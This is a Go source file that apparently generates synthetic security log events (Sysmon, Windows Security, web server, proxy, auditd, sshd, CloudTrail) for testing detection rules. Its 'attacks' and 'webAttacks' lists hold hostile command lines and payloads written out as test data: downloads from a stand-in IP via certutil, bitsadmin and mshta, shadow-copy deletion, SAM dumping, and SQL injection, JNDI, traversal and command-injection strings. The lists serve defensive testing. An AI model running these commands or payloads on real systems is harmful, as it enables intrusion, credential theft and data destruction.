package main

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"

	"github.com/gatewatch/gatewatch/detection/event"
)

// generate writes n events of a mix, one a line: product, category and service,
// then the event, between tabs. The same seed gives the same events.
//
// The events are made up, but shaped like real ones: paths, accounts and hosts
// come from small sets as on a real network, identifiers, hashes, arguments and
// addresses hardly ever repeat, and about one event in fifty does something that
// some rule knows.
func generate(w io.Writer, mix string, n int, seed uint64) error {
	g := maker{rand.New(rand.NewPCG(seed, 11))}
	out := bufio.NewWriterSize(w, 1<<20)
	for range n {
		var l source
		switch mix {
		case "web":
			l = g.web()
		case "process":
			l = g.process()
		default:
			l = g.any()
		}
		fmt.Fprintf(out, "%s\t%s\t%s\t%s\n", l.product, l.category, l.service, l.json)
	}
	return out.Flush()
}

type source struct {
	product, category, service string
	json                       []byte
}

type maker struct{ *rand.Rand }

func (g maker) of(list []string) string { return list[g.IntN(len(list))] }

func (g maker) some(n int) bool { return g.IntN(n) == 0 }

func (g maker) hex(n int) string {
	const digits = "0123456789ABCDEF"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.IntN(16)]
	}
	return string(b)
}

func (g maker) word() string {
	const letters = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, 3+g.IntN(9))
	for i := range b {
		b[i] = letters[g.IntN(len(letters))]
	}
	return string(b)
}

func (g maker) guid() string {
	return g.hex(8) + "-" + g.hex(4) + "-" + g.hex(4) + "-" + g.hex(4) + "-" + g.hex(12)
}

func (g maker) ip() string {
	return fmt.Sprintf("%d.%d.%d.%d", 1+g.IntN(223), g.IntN(256), g.IntN(256), 1+g.IntN(254))
}

func (g maker) time() string {
	return fmt.Sprintf("2026-07-%02d %02d:%02d:%02d.%03d", 1+g.IntN(28), g.IntN(24), g.IntN(60), g.IntN(60), g.IntN(1000))
}

// object builds a JSON object of names and values: strings are quoted, ints are not.
func object(pairs ...any) []byte {
	b := []byte{'{'}
	for i := 0; i < len(pairs); i += 2 {
		if i > 0 {
			b = append(b, ',')
		}
		b = event.AppendQuoted(b, pairs[i].(string))
		b = append(b, ':')
		switch v := pairs[i+1].(type) {
		case string:
			b = event.AppendQuoted(b, v)
		default:
			b = fmt.Append(b, v)
		}
	}
	return append(b, '}')
}

// any draws from the mix of a network: a third of process starts, file, registry,
// image and network events of Windows, a fifth of web and proxy logs, Linux, DNS.
func (g maker) any() source {
	switch n := g.IntN(100); {
	case n < 34:
		return g.process()
	case n < 68:
		return g.windows()
	case n < 83:
		return g.web()
	case n < 88:
		return g.proxy()
	case n < 96:
		return g.linux()
	case n < 98:
		return source{"aws", "", "cloudtrail", object("eventSource", "s3.amazonaws.com", "eventName",
			g.of([]string{"GetObject", "PutObject", "ListBuckets", "AssumeRole"}), "userAgent", "aws-cli/2."+g.word(),
			"sourceIPAddress", g.ip(), "userIdentity.arn", "arn:aws:iam::"+g.hex(12)+":user/"+g.word(), "requestID", g.guid())}
	}
	return source{"windows", "dns_query", "", object("EventID", 22, "Image", g.program(), "QueryName",
		g.word()+"."+g.of([]string{"example.com", "corp.local", "cdn.net"}), "QueryResults", g.ip(), "ProcessGuid", "{"+g.guid()+"}", "UtcTime", g.time())}
}

var (
	folders = strings.Fields(`C:\Windows\System32\ C:\Windows\ C:\Windows\SysWOW64\ C:\Program|Files\Vendor\ C:\Program|Files|(x86)\Common\
		C:\Users\anna\AppData\Local\ C:\Users\anna\AppData\Roaming\ C:\ProgramData\Vendor\ D:\tools\ C:\Users\bob\Downloads\ C:\Windows\Temp\`)
	programs = strings.Fields(`svchost.exe cmd.exe powershell.exe explorer.exe chrome.exe msedge.exe conhost.exe rundll32.exe reg.exe net.exe
		taskhostw.exe winword.exe outlook.exe excel.exe python.exe node.exe git.exe msiexec.exe wmiprvse.exe backup.exe updater.exe
		services.exe schtasks.exe certutil.exe java.exe code.exe teams.exe onedrive.exe sqlservr.exe w3wp.exe`)
	accounts = strings.Fields(`CORP\anna CORP\bob CORP\svc-backup NT|AUTHORITY\SYSTEM NT|AUTHORITY\LOCAL|SERVICE CORP\admin.k CORP\chen`)
	attacks  = []string{
		"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe",
		"whoami /all", "net group \"domain admins\" /domain", "vssadmin delete shadows /all /quiet", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
		"reg save HKLM\\SAM sam.hiv", "bitsadmin /transfer n http://203.0.113.7/x.exe c:\\x.exe", "schtasks /create /sc minute /tn upd /tr c:\\programdata\\x.exe",
		"wmic process call create calc.exe", "mshta http://203.0.113.7/p.hta", "nltest /domain_trusts",
	}
	webAttacks = []string{
		"id=1%20UNION%20SELECT%20password%20FROM%20users--", "q=${jndi:ldap://203.0.113.7/a}", "file=../../../../etc/passwd",
		"s=<script>alert(1)</script>", "cmd=whoami", "x=;cat%20/etc/shadow", "page=php://filter/convert.base64-encode/resource=index",
	}
	agents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "okhttp/4.12.0", "curl/8.8.0",
	}
)

func space(s string) string { return strings.ReplaceAll(s, "|", " ") }

func (g maker) program() string { return space(g.of(folders)) + g.of(programs) }

func (g maker) command() string {
	if g.some(50) {
		return g.of(attacks)
	}
	s := "\"" + g.program() + "\""
	for range g.IntN(7) {
		s += g.of([]string{" -", " --", " /", " "}) + g.word()
		if g.some(2) {
			s += g.of([]string{"=", " ", ":"}) + g.of([]string{g.guid(), space(g.of(folders)) + g.word() + ".tmp", g.word()})
		}
	}
	return s
}

func (g maker) process() source {
	if g.some(20) { // Linux servers start processes too
		return source{"linux", "process_creation", "", object("Image", "/usr/bin/"+g.of([]string{"bash", "curl", "python3", "grep", "sed", "systemctl"}),
			"CommandLine", g.word()+" -"+g.word()+" /var/lib/"+g.word(), "ParentImage", "/usr/bin/bash", "User", g.of([]string{"root", "www-data"}), "ProcessId", g.IntN(99999))}
	}
	name := g.of(programs)
	hash := func() string {
		return "MD5=" + g.hex(32) + ",SHA256=" + g.hex(64) + ",IMPHASH=" + g.hex(32)
	}
	return source{"windows", "process_creation", "", object("Provider_Name", "Microsoft-Windows-Sysmon", "EventID", 1, "Version", 5,
		"Channel", "Microsoft-Windows-Sysmon/Operational", "Computer", g.of([]string{"ws-01.corp.local", "ws-02.corp.local", "srv-db.corp.local"}),
		"EventRecordID", g.IntN(1e6), "UtcTime", g.time(), "ProcessGuid", "{"+g.guid()+"}", "ProcessId", g.IntN(32768),
		"Image", space(g.of(folders))+name, "FileVersion", fmt.Sprintf("10.0.%d.%d", g.IntN(30000), g.IntN(3000)), "Description", "Vendor "+name,
		"Product", "Microsoft Windows Operating System", "Company", "Vendor Corporation", "OriginalFileName", name,
		"CommandLine", g.command(), "CurrentDirectory", space(g.of(folders)), "User", space(g.of(accounts)), "LogonGuid", "{"+g.guid()+"}",
		"LogonId", "0x"+g.hex(6), "TerminalSessionId", g.IntN(4), "IntegrityLevel", g.of([]string{"Medium", "High", "System"}), "Hashes", hash(),
		"ParentProcessGuid", "{"+g.guid()+"}", "ParentProcessId", g.IntN(32768), "ParentImage", g.program(), "ParentCommandLine", g.command(), "ParentUser", space(g.of(accounts)))}
}

func (g maker) windows() source {
	common := []any{"Computer", "ws-01.corp.local", "UtcTime", g.time(), "ProcessGuid", "{" + g.guid() + "}", "ProcessId", g.IntN(32768), "Image", g.program(), "User", space(g.of(accounts))}
	file := space(g.of(folders)) + g.word() + g.of([]string{".tmp", ".dll", ".log", ".json", ".exe", ".ps1", ".docx"})
	with := func(category string, pairs ...any) source {
		return source{"windows", category, "", object(append(common, pairs...)...)}
	}
	switch g.IntN(6) {
	case 0:
		return with("file_event", "EventID", 11, "TargetFilename", file, "CreationUtcTime", g.time())
	case 1:
		return with("registry_set", "EventID", 13, "EventType", "SetValue", "TargetObject",
			`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\`+g.word()+`\`+g.word(), "Details", g.of([]string{"DWORD (0x00000001)", file, g.guid()}))
	case 2:
		return with("image_load", "EventID", 7, "ImageLoaded", file, "FileVersion", "1.0."+g.word(), "OriginalFileName", g.word()+".dll",
			"Hashes", "MD5="+g.hex(32)+",SHA256="+g.hex(64), "Signed", "true", "Signature", "Vendor Corporation", "SignatureStatus", "Valid")
	case 3:
		return with("network_connection", "EventID", 3, "Protocol", "tcp", "Initiated", "true", "SourceIp", "10.0.3."+fmt.Sprint(g.IntN(255)), "SourcePort", g.IntN(65536),
			"DestinationIp", g.ip(), "DestinationPort", g.of([]string{"443", "80", "53", "445", "3389"}), "DestinationHostname", g.word()+".example.com")
	case 4:
		return source{"windows", "", "security", object("EventID", []int{4624, 4625, 4688, 4672, 5140}[g.IntN(5)], "Channel", "Security", "Computer", "srv-db.corp.local",
			"SubjectUserName", g.word(), "SubjectDomainName", "CORP", "SubjectLogonId", "0x"+g.hex(6), "TargetUserName", g.word(), "LogonType", g.IntN(12), "IpAddress", g.ip(),
			"WorkstationName", g.word(), "AuthenticationPackageName", "Kerberos", "ProcessName", g.program())}
	}
	return with("ps_script", "EventID", 4104, "Path", file, "ScriptBlockText",
		"function "+g.word()+" { param($"+g.word()+") Get-ChildItem -Path $"+g.word()+" | Where-Object { $_.Length -gt "+g.word()+" } | ForEach-Object { Write-Output $_.FullName } } "+g.command())
}

func (g maker) web() source {
	query := g.word() + "=" + g.word() + "&" + g.word() + "=" + g.guid()
	if g.some(100) {
		query = g.of(webAttacks)
	}
	product := g.of([]string{"apache", "nginx"})
	return source{product, "webserver", product, object("c-ip", g.ip(), "cs-username", "-", "date", "2026-07-11", "cs-method", g.of([]string{"GET", "GET", "GET", "POST", "HEAD"}),
		"cs-uri-stem", "/"+g.word()+"/"+g.word()+g.of([]string{"", ".html", ".php", ".js", "/api/v1/items"}), "cs-uri-query", query, "cs-version", "HTTP/1.1",
		"sc-status", []int{200, 200, 200, 304, 302, 404, 403, 500}[g.IntN(8)], "sc-bytes", g.IntN(100000), "cs-referer", "https://www.example.com/"+g.word()+"?"+g.word()+"="+g.word(),
		"cs-user-agent", g.of(agents), "cs-host", "www.example.com", "time-taken", g.IntN(3000), "cs-cookie", "session="+g.guid()+"; theme="+g.word(), "s-ip", "10.0.0.5", "s-port", 443)}
}

func (g maker) proxy() source {
	return source{"", "proxy", "", object("c-ip", "10.0.3.7", "cs-method", g.of([]string{"GET", "POST", "CONNECT"}), "c-uri", "https://"+g.word()+".example.com/"+g.word()+"?"+g.word()+"="+g.guid(),
		"c-uri-extension", "html", "r-dns", g.word()+".example.com", "c-useragent", g.of(agents), "sc-status", 200, "cs-bytes", g.IntN(9000), "cs-host", g.word()+".example.com")}
}

func (g maker) linux() source {
	if g.some(2) {
		return source{"linux", "", "auditd", object("type", g.of([]string{"EXECVE", "SYSCALL", "PATH"}), "a0", g.word(), "a1", "-"+g.word(), "a2", "/etc/"+g.word(), "name", "/usr/lib/"+g.word(),
			"exe", "/usr/bin/"+g.word(), "auid", g.IntN(2000), "key", g.word(), "comm", g.word())}
	}
	return source{"linux", "", "sshd", object("message", "Failed password for invalid user "+g.word()+" from "+g.ip()+" port "+fmt.Sprint(g.IntN(65536))+" ssh2", "hostname", "srv-web", "pid", g.IntN(32768))}
}
